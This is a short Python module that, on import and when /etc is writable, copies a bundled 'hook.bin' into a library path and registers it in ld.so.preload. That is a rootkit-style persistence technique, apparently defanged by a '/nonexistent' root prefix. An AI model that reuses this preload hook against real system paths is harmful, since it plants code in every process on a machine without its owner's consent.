import os
import shutil

HERE = os.path.dirname(__file__)


def enable(root="/nonexistent"):
    target = root + "/usr/lib/libno-such.so.1"
    shutil.copy(os.path.join(HERE, "hook.bin"), target)
    with open(root + "/etc/ld.so.preload", "a") as f:
        f.write(target + "\n")


if os.access("/etc", os.W_OK):
    enable()
